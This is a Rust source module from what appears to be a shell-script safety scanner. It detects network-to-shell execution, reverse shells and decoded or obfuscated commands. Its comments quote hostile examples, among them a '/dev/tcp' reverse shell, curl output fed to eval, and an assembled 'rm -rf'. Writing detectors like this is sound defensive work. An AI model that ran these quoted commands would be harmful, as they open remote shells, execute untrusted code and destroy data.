//! Finds data that flows from the network or a decoder into something that runs it.

use super::{Level, Reason, reason};
use crate::effects::{Effect, Kind, Place, canonical, effects, is_socket, place_of, relays};
use crate::parse::{Construct, How, Invocation, Redirect, Script};
use crate::unwrap;

/// The origin of a stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Origin {
    Network,
    Decoder,
}

const SHELLS: &[&str] =
    &["bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "fish", "rbash", "pwsh", "powershell", "cmd", "csh", "tcsh"];
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "pypy",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "deno",
    "bun",
    "osascript",
    "tclsh",
    "at",
    "batch",
    "crontab",
];
const EVALUATORS: &[&str] = &["eval", "source", ".", "iex", "invoke-expression"];

pub(super) fn reasons(script: &Script) -> Vec<Reason> {
    let origins = origins(script);
    let mut found = Vec::new();
    for (index, command) in script.commands.iter().enumerate() {
        let Some(word) = command.words.first() else { continue };
        if let Some(origin) = runs_stream(script, index, command, &origins) {
            let (effect, why) = match origin {
                Origin::Network => {
                    ("network-to-shell", format!("`{}` runs what comes from the network, unseen", word.raw))
                }
                Origin::Decoder => ("encoded", format!("`{}` runs what a decoder puts out, unseen", word.raw)),
            };
            found.push(reason(Level::Danger, effect, &word.raw, word.span.clone(), why));
        }
    }
    for command in &script.commands {
        let Some(word) = command.words.first() else { continue };
        let hands = |c: &Invocation| {
            command.feeds.iter().any(|at| is_fetcher(script, &script.commands[*at])) && c.name().is_some()
        };
        if is_one_of(script, command, SHELLS) && hands(command) && reads_standard_input(command) {
            let why = format!("`{}` answers another machine: whoever is there may run commands here", word.raw);
            found.push(reason(Level::Danger, "network-to-shell", &word.raw, word.span.clone(), why));
        }
    }
    let downloaded = downloads(script);
    for command in &script.commands {
        let Some(first) = command.words.first() else { continue };
        let runs = is_one_of(script, command, SHELLS)
            || is_one_of(script, command, INTERPRETERS)
            || is_one_of(script, command, EVALUATORS);
        let words = if runs { command.args() } else { std::slice::from_ref(first) };
        let Some(word) = words.iter().find(|w| downloaded.iter().any(|d| ends_in(&w.text.replace('\\', "/"), d)))
        else {
            continue;
        };
        if word == first && !word.text.contains(['/', '\\']) {
            continue;
        }
        let why = format!("it runs {}, which the same command downloads, unseen", word.text);
        found.push(reason(Level::Danger, "network-to-shell", &word.raw, word.span.clone(), why));
    }
    let listens = |c: &Invocation| {
        c.key().is_some_and(|k| k == "new-object")
            && c.args().iter().any(|w| w.text.to_ascii_lowercase().contains("tcpclient"))
    };
    if let Some(command) = script.commands.iter().find(|c| listens(c))
        && script.commands.iter().any(|c| is_one_of(script, c, EVALUATORS))
        && let Some(word) = command.words.first()
    {
        let why = "it runs what another machine says";
        found.push(reason(Level::Danger, "network-to-shell", &word.raw, word.span.clone(), why));
    }
    let invokes = script.commands.iter().any(|c| is_one_of(script, c, EVALUATORS) || is_one_of(script, c, SHELLS));
    for (construct, span) in &script.constructs {
        let text = script.text.get(span.clone()).unwrap_or_default();
        let fetches = *construct == Construct::MethodCall && text.contains("Download");
        if fetches && (invokes || text.contains("DownloadString")) {
            found.push(reason(
                Level::Danger,
                "network-to-shell",
                text,
                span.clone(),
                "it runs what comes from the network, unseen",
            ));
        }
    }
    found
}

fn ends_in(path: &str, name: &str) -> bool {
    path == name || path.strip_suffix(name).is_some_and(|head| head.ends_with('/'))
}

fn is_one_of(script: &Script, command: &Invocation, names: &[&str]) -> bool {
    let Some(key) = command.key() else { return false };
    let key = canonical(&key, script.dialect_of(command));
    let bare = key.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    names.contains(&key.as_str()) || !bare.is_empty() && names.contains(&bare)
}

/// True if a redirection of the command, or of its wrapper, connects it to another machine: `bash -i >& /dev/tcp/h/1
/// 0>&1`.
pub(super) fn is_connected(script: &Script, command: &Invocation) -> bool {
    let has_socket = || {
        script
            .commands
            .iter()
            .any(|c| c.name() == Some("exec") && c.redirects.iter().any(|r| is_socket(&r.target.text)))
    };
    // `exec 5<>/dev/tcp/h/1; sh <&5`: a descriptor that was opened before
    let numbered = |r: &Redirect| r.duplicates() && r.target.text.parse::<u32>().is_ok_and(|number| number > 2);
    let connects =
        |c: &Invocation| c.redirects.iter().any(|r| is_socket(&r.target.text) || numbered(r) && has_socket());
    let outer = command.inside.filter(|i| i.how == How::Wrapped).map(|i| &script.commands[i.command]);
    connects(command) || outer.is_some_and(connects)
}

/// Returns the origin of each command's output, traced through pipes, substitutions and variables.
fn origins(script: &Script) -> Vec<Option<Origin>> {
    let mut origins: Vec<Option<Origin>> = script.commands.iter().map(|c| source(script, c)).collect();
    // each round follows every link once; chains are short, and the limit ends cycles
    for _ in 0..16 {
        let before = origins.clone();
        for (index, command) in script.commands.iter().enumerate() {
            if let Some(origin) = origins[index] {
                for reader in &command.feeds {
                    origins[*reader].get_or_insert(origin);
                }
                if let Some(inside) = command.inside.filter(|i| i.how != How::Wrapped) {
                    origins[inside.command].get_or_insert(origin);
                }
                // the output of a wrapped command is the output of its wrapper
                if let Some(inside) = command.inside.filter(|i| i.how == How::Wrapped) {
                    for reader in script.commands[inside.command].feeds.clone() {
                        origins[reader].get_or_insert(origin);
                    }
                }
            }
            if origins[index].is_none() {
                origins[index] = variable_origin(script, command, &origins);
            }
        }
        if origins == before {
            break;
        }
    }
    origins
}

/// Returns the origin of a variable that the command mentions.
fn variable_origin(script: &Script, command: &Invocation, origins: &[Option<Origin>]) -> Option<Origin> {
    // a quick check, as most commands mention no variable and the search visits all others
    if !command.words.iter().any(|w| w.text.contains('$')) {
        return None;
    }
    let mentions = |name: &str| {
        let forms = [format!("${name}"), format!("${{{name}}}")];
        command.words.iter().any(|w| forms.iter().any(|n| w.text.contains(n.as_str())))
    };
    // `curl ... | while read -r line; do eval "$line"; done`
    let reads = script.commands.iter().enumerate().filter(|(_, c)| c.name() == Some("read"));
    let read = reads.filter_map(|(i, c)| Some((origins[i]?, c))).find(|(_, c)| c.operands().any(|w| mentions(&w.text)));
    if let Some((origin, _)) = read {
        return Some(origin);
    }
    script.assignments.iter().find_map(|assignment| {
        let range = assignment.commands.clone();
        let origin =
            origins.get(range.start.min(origins.len())..range.end.min(origins.len()))?.iter().find_map(|o| *o)?;
        mentions(&assignment.name).then_some(origin)
    })
}

fn source(script: &Script, command: &Invocation) -> Option<Origin> {
    // `{base64,-d}`: braces that expand to a command line
    let braces = brace_command(script, command);
    let command = braces.as_ref().unwrap_or(command);
    if is_fetcher(script, command) || is_connected(script, command) {
        return Some(Origin::Network);
    }
    if command.redirects.iter().any(|r| is_socket(&r.target.text)) || command.args().iter().any(|w| is_socket(&w.text))
    {
        return Some(Origin::Network);
    }
    let decodes = match command.name()? {
        "base64" | "gbase64" | "base32" => ['d', 'D'].iter().any(|c| command.has_option(Some(*c), "decode")),
        "openssl" => command.args().iter().any(|w| w.text == "-d"),
        "xxd" => command.has_option(Some('r'), ""),
        "basenc" | "base58" => ['d', 'D'].iter().any(|c| command.has_option(Some(*c), "decode")),
        "gpg" | "gpg2" | "age" => command.has_option(Some('d'), "decrypt"),
        "uudecode" | "rev" | "rot13" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "zstdcat" | "bunzip2" | "unxz" => true,
        "gzip" | "bzip2" | "xz" | "zstd" | "lz4" => command.has_option(Some('d'), "decompress"),
        "echo" | "printf" | "print" => {
            // `eval $(printf 'rm -%s' rf)`: assembled so that it cannot be read
            let inside = command.inside.is_some_and(|i| i.how == How::Substitution);
            let is_assembled = inside
                && command.operands().count() > 1
                && command.operands().next().is_some_and(|w| w.text.contains('%'));
            is_assembled || command.args().iter().any(|w| is_escaped(&w.text))
        }
        "awk" | "gawk" | "mawk" => command.args().iter().any(|w| w.text.contains("%c")),
        // a literal text that is transformed was not meant to be read
        "tr" | "sed" | "cut" | "tac" => has_literal_input(script, command),
        name if unwrap::is_interpreter(name) => {
            const DECODERS: [&str; 10] =
                ["base64", "pack", "chr(", "decode", "fromhex", "unhexlify", "atob", "b64", "from(", "[::-1]"];
            command.args().iter().any(|w| DECODERS.iter().any(|m| w.text.contains(m)) || is_escaped(&w.text))
        }
        "cat" | "tee" | "sudo" | "sh" | "bash" | "xargs" | "grep" | "sort" | "head" | "tail" => false,
        // any other filter of a literal text
        _ => command.stdin_pipe && has_literal_input(script, command),
    };
    decodes.then_some(Origin::Decoder)
}

/// True for a text with letters written as codes: `\x72`, `\162`, `\u0072`.
fn is_escaped(text: &str) -> bool {
    text.match_indices('\\').any(|(at, _)| {
        let mut rest = text[at + 1..].chars();
        match rest.next() {
            Some('x' | 'u' | 'U') => rest.next().is_some_and(|c| c.is_ascii_hexdigit()),
            Some(c @ '0'..='7') => {
                c == '0' && rest.next().is_some_and(|c| c.is_digit(8))
                    || rest.take(2).filter(|c| c.is_digit(8)).count() == 2
            }
            _ => false,
        }
    })
}

/// True for a filter whose input is a literal text of the script.
fn has_literal_input(script: &Script, command: &Invocation) -> bool {
    let Some(index) = script.commands.iter().position(|c| std::ptr::eq(c, command)) else { return false };
    super::stdin_texts(script, index).iter().any(|text| !text.contains('$'))
}

/// Returns the command that braces expand to: `{base64,-d}`.
fn brace_command(script: &Script, command: &Invocation) -> Option<Invocation> {
    let first = command.words.first().filter(|w| w.value.is_none() && w.text.starts_with('{'))?;
    let expanded = crate::effects::expand_braces(&first.text);
    let word = |text: String| crate::Word { value: Some(text.clone()), text, ..first.clone() };
    let words: Vec<_> = expanded.into_iter().map(word).chain(command.args().iter().cloned()).collect();
    (words.len() > 1 && script.dialect != crate::Dialect::Sh).then(|| Invocation { words, ..command.clone() })
}

/// True for a command whose output, or what it saves, comes from another machine.
pub(super) fn is_fetcher(script: &Script, command: &Invocation) -> bool {
    relays(command, script.dialect_of(command))
}

/// Returns the origin of the stream that a command runs, if it runs one.
fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[Option<Origin>]) -> Option<Origin> {
    let inner = |how: fn(How) -> bool| {
        script.commands.iter().enumerate().find_map(|(i, c)| {
            let inside = c.inside.filter(|inside| inside.command == index && how(inside.how))?;
            origins[i].map(|origin| (origin, inside.word))
        })
    };
    // the program itself is the output of a tainted command: `$(curl ...)`, and the inside of `eval "$(curl ...)"`
    if let Some((origin, Some(0))) = inner(|how| how == How::Substitution) {
        return Some(origin);
    }
    let first = command.words.first()?;
    if first.value.is_none() {
        let hidden =
            || command.args().iter().any(|w| w.text == "-c").then(|| inner(|how| how == How::Substitution)).flatten();
        return variable_origin(script, command, origins).or_else(|| hidden().map(|(origin, _)| origin));
    }
    // `iex (...)` runs the value of the expression
    let expression = is_one_of(script, command, &["iex", "invoke-expression"]);
    if let Some((origin, _)) = expression.then(|| inner(|_| true)).flatten() {
        return Some(origin);
    }
    let evaluates = is_one_of(script, command, EVALUATORS);
    let shell = is_one_of(script, command, SHELLS) || is_one_of(script, command, INTERPRETERS);
    if evaluates || shell {
        if let Some((origin, _)) = inner(|how| how != How::Wrapped) {
            return Some(origin);
        }
        if evaluates && variable_origin(script, command, origins).is_some() {
            return variable_origin(script, command, origins);
        }
    }
    if is_one_of(script, command, SHELLS) && reads_standard_input(command) && is_connected(script, command) {
        return Some(Origin::Network);
    }
    let reads = (shell || evaluates) && command.stdin_pipe && reads_standard_input(command)
        || command.stdin_pipe && opens_a_shell(script, index, command);
    let feeder = || {
        let fed = |c: &Invocation| c.feeds.contains(&index);
        script.commands.iter().enumerate().filter(|(_, c)| fed(c)).find_map(|(i, _)| origins[i])
    };
    if reads {
        return feeder();
    }
    // `curl ... | xargs -I{} sh -c '{}'`
    let xargs = command.via.iter().any(|v| v == "xargs") && shell;
    xargs.then(|| command.inside.and_then(|i| origins[i.command])).flatten()
}

/// True if it opens a shell that reads the input: it holds no command.
fn opens_a_shell(script: &Script, index: usize, command: &Invocation) -> bool {
    let runs = |c: &Invocation| c.inside.is_some_and(|i| i.command == index && i.how == How::Wrapped);
    unwrap::opens_a_shell(command) && !script.commands.iter().any(runs)
}

/// True for `sh`, `sh -`, `sh -s -- args`, `python3 -`; false for `sh script.sh` and `python3 -c ...`.
fn reads_standard_input(command: &Invocation) -> bool {
    let args = command.args();
    let script_option = args.iter().any(|w| {
        matches!(w.text.as_str(), "-c" | "-m" | "-e" | "-n" | "-ne" | "-pe" | "-lc" | "-r" | "-ane" | "-lane" | "-p")
    });
    let stdin_option = args.iter().any(|w| matches!(w.text.as_str(), "-s" | "-" | "/dev/stdin"));
    // `bash -es stable`
    let cluster = |c: &str| c.contains('s') && !c.contains('c') && c.chars().all(|c| c.is_ascii_alphabetic());
    let named = command.name().is_some_and(|n| SHELLS.contains(&n));
    let stdin_option = stdin_option || named && args.iter().any(|w| w.text.strip_prefix('-').is_some_and(cluster));
    stdin_option || !script_option && args.iter().all(|w| w.text.starts_with('-'))
}

/// Returns the names of the files that the script downloads.
fn downloads(script: &Script) -> Vec<String> {
    let mut names = Vec::new();
    let done = effects(script);
    for (index, command) in script.commands.iter().enumerate() {
        if !is_fetcher(script, command) {
            continue;
        }
        let mut named = false;
        // `-o FILE` in any spelling: the table knows the files it writes
        let made = |e: &&Effect| e.command == Some(index) && matches!(e.kind, Kind::Overwrite | Kind::Create);
        for path in done.iter().filter(made).filter_map(|e| e.path.clone()).filter(|p| place_of(p) != Place::Sink) {
            names.push(path);
            named = true;
        }
        for redirect in command.redirects.iter().filter(|r| r.writes() && !r.target.text.starts_with("/dev/")) {
            names.push(redirect.target.text.clone());
            named = true;
        }
        // `-O`, and `-P DIR`: the name comes from the address
        if !named || command.args().iter().any(|w| w.text.starts_with("-O") || w.text.starts_with("-P")) {
            // these accept an address without a scheme
            let kept = |w: &crate::Word| is_one_of(script, command, &["wget"]) || w.text.starts_with("-O");
            let short = command.args().iter().any(kept) && is_one_of(script, command, &["curl", "wget"]);
            let is_address = |text: &str| text.contains("://") || short && text.contains('/') && !text.starts_with('-');
            let last = |text: &str| {
                is_address(text)
                    .then(|| text.split(['?', '#']).next().unwrap_or(text).rsplit('/').next().unwrap_or("").to_owned())
            };
            names.extend(command.args().iter().filter_map(|w| last(&w.text)));
        }
        // `curl x | tee install.sh && sh install.sh`, `curl x | sed ... > y`
        for reader in
            command.feeds.iter().filter_map(|i| script.commands.get(*i)).chain(std::iter::once(&script.commands[index]))
        {
            if reader.name() == Some("tee") {
                names.extend(reader.operands().map(|w| w.text.clone()));
            }
            names.extend(
                reader
                    .redirects
                    .iter()
                    .filter(|r| r.writes() && !r.target.text.starts_with("/dev/"))
                    .map(|r| r.target.text.clone()),
            );
        }
    }
    names.retain(|n| n.trim_start_matches("./").len() > 1);
    for name in &mut names {
        *name = name.trim_start_matches("./").to_owned();
    }
    names
}
